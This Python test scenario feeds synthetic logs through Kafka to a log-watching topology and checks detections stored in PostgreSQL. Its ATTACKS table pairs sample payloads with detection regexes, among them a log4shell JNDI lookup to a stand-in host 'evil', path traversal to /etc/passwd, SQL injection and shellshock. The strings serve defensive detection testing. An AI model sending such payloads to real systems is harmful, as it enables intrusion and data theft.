"""A watch over logs, all of it: starts Kafka, PostgreSQL and the topology, feeds them, debugs and checks.

Usage: python examples/scenarios/run_watch.py [--lines 60000]

One kind of line is not understood. An operator finds which, on the running topology, by `squall tap`; log levels and
stacks are looked at in the same way.
"""

from __future__ import annotations

import argparse
import json
import re
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from random import Random
from typing import Any, NamedTuple

from stage import Kafka, Postgresql, Run, Stage
from watch import TOP

HOSTS = [f"shop-{number:02}" for number in range(40)]
OWNERS = ("payments", "search", "stock")
ATTACKS = {
    "path traversal": ("GET /files?name=../../etc/passwd", r"\.\./\.\./"),
    "sql injection": ("GET /items?id=1 UNION SELECT card FROM users", r"union\s+select"),
    "script injection": ("GET /search?q=<script>alert(1)</script>", r"<script"),
    "log4shell": ("GET /?x=${jndi:ldap://evil/a}", r"\$\{jndi:"),
    "shell shock": ("GET /cgi-bin/x () { :;}; /bin/id", r"\(\)\s*\{"),
    "password guessing": ("Failed password for root", r"Failed password for (?:root|admin)"),
}
OTHERS = {f"scanner {number}": rf"scanner-{number:03}/\d" for number in range(60)}
"""Rules that nothing fits, as with most of a real set."""
ATTACK_RATIO, ODD_RATIO = 0.008, 0.01
PARTITIONS = 4
LOOK_S, LAST = 5.0, 2000


class Sent(NamedTuple):
    """A line, and what must come of it: the rule that it breaks, if any, and whether it can be parsed."""

    host: str
    text: str
    rule: str | None
    is_parsed: bool


def lines(count: int, random: Random) -> Iterator[Sent]:
    """Lines of three formats; some are attacks, some have addresses of a kind that was forgotten."""
    for number in range(count):
        host = HOSTS[min(int(random.expovariate(0.15)), len(HOSTS) - 1)]
        rule = random.choice(sorted(ATTACKS)) if random.random() < ATTACK_RATIO else None
        what = ATTACKS[rule][0] if rule else f"GET /items/{number}"
        client = f"10.0.{random.randrange(256)}.{random.randrange(256)}"
        kind = "syslog" if rule == "password guessing" else random.choice(("access", "syslog", "json"))
        if kind == "syslog" and not rule and random.random() < 3 * ODD_RATIO:
            yield Sent(host, f"Nov 27 05:00:00 {host} sshd[42]: Accepted key for deploy from 2001:db8::1", None, False)
        elif kind == "syslog":
            yield Sent(host, f"Nov 27 05:00:00 {host} sshd[42]: {what} from {client} port 22", rule, True)
        elif kind == "json":
            yield Sent(host, json.dumps({"host": host, "client": client, "message": what}), rule, True)
        else:
            text = f'{client} - - [27/Nov/2026:05:00:00 +0000] "{what} HTTP/1.1" 200 512 host={host}'
            yield Sent(host, text, rule, True)


def produce(address: str, topic: str, sent: list[Sent], lasts_s: float = 0.0) -> None:
    """Puts the lines into Kafka, in at least so many seconds."""
    from confluent_kafka import Producer

    producer = Producer({"bootstrap.servers": address, "linger.ms": 20})
    for number, line in enumerate(sent):
        producer.produce(topic, line.text, partition=number % PARTITIONS)
        if number % 1000 == 999:
            time.sleep(lasts_s * 1000 / len(sent))
            producer.flush()
    producer.flush()


def play(stage: Stage, count: int) -> None:
    """The whole scenario."""
    sent = list(lines(count, Random(11)))
    rules, hosts = stage.folder / "rules.json", stage.folder / "hosts.csv"
    rules.write_text(json.dumps({name: rule for name, (_, rule) in ATTACKS.items()} | OTHERS))
    hosts.write_text("host,owner\n" + "".join(f"{host},{owner_of(host)}\n" for host in HOSTS))
    kafka, postgresql = stage.server(Kafka), stage.server(Postgresql)
    logs, top = kafka.topic("logs", PARTITIONS), kafka.topic("top")
    run = stage.run(
        "watch.py", kafka=kafka.address, logs=logs, top=top, postgresql=postgresql.url, rules=rules, hosts=hosts
    )
    half = count // 2
    stage.say(f"{half:,} lines go into Kafka")
    produce(kafka.address, logs, sent[:half])
    run.until(lambda: run.progress["acked"] >= half, "the end of these lines")
    _debug(stage, run, kafka, logs, sent[half:])
    run.until(lambda: run.progress["acked"] >= count, "the last line", 120)
    summary = run.stop()
    stage.check(f"{count:,} lines ended, none was lost", count, summary["acked"])
    stage.check("no dead letters", 0, summary["dead"])
    odd = sum(not line.is_parsed for line in sent)
    stage.check(f"{odd:,} lines that no parser takes, on a stream of their own", odd, unparsed(summary))
    wanted = Counter((line.host, owner_of(line.host), line.rule) for line in sent if line.rule)
    stage.check(f"{wanted.total():,} hits in PostgreSQL with rule and owner", True, wanted == stored(postgresql.dsn))
    hits = Counter(line.host for line in sent if line.rule)
    best = sorted(hits.items(), key=lambda item: (-item[1], item[0]))[:TOP]
    stage.check(f"the last ranking in Kafka is {best}", [list(one) for one in best], newest(kafka.address, top))


def _debug(stage: Stage, run: Run, kafka: Kafka, logs: str, more: list[Sent]) -> None:
    """What an operator does who wonders why some lines are not understood, while more of them come."""
    stage.say(f"some lines are not parsed: which? {len(more):,} more come while we look")
    feeding = threading.Thread(target=produce, args=(kafka.address, logs, more[:-LAST], LOOK_S))
    feeding.start()
    shown = stage.squall("tap", "parse:unparsed", "--limit", "3", "--json")
    feeding.join()
    texts = [json.loads(line) for line in shown.splitlines()]
    stage.check("the tap shows lines with IPv6 addresses", True, len(texts) == 3 and "2001:db8::1" in shown)
    stage.squall("log-level", "watch", "squall.user.match=DEBUG:30s")
    levels = stage.squall("log-level", "watch")
    stage.check("the level is in force, for a while", True, "squall.user.match is DEBUG for" in levels)
    produce(kafka.address, logs, more[-LAST:])
    run.until(lambda: "DEBUG" in run.log, "the first line of level DEBUG")
    stage.say("the log tells of each hit now")
    stacks = stage.squall("stacks", "watch", lines=16)
    stage.check("the stacks show all threads", True, "most recent call first" in stacks)


def owner_of(host: str) -> str:
    """Who has a host."""
    return OWNERS[int(re.sub(r"\D", "", host)) % len(OWNERS)]


def unparsed(summary: dict[str, Any]) -> int:
    """How many lines went to the stream of those that no parser takes."""
    return summary["components"]["parse"]["streams"]["unparsed"]


def stored(dsn: str) -> Counter[tuple[str, str, str]]:
    """The hits in the database."""
    import psycopg

    with psycopg.connect(dsn) as database:
        return Counter(database.execute("SELECT host, owner, rule FROM hits").fetchall())


def newest(address: str, topic: str) -> list[list[object]]:
    """The newest record of a topic of one partition."""
    from confluent_kafka import Consumer, TopicPartition

    consumer = Consumer({"bootstrap.servers": address, "group.id": "wall"})
    end = consumer.get_watermark_offsets(TopicPartition(topic, 0), 10)[1]
    consumer.assign([TopicPartition(topic, 0, end - 1)])
    message = consumer.poll(30)
    consumer.close()
    return json.loads(message.value())


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--lines", type=int, default=60_000)
    with Stage() as stage:
        play(stage, parser.parse_args().lines)
        return 0 if stage.is_right else 1


if __name__ == "__main__":
    sys.exit(main())
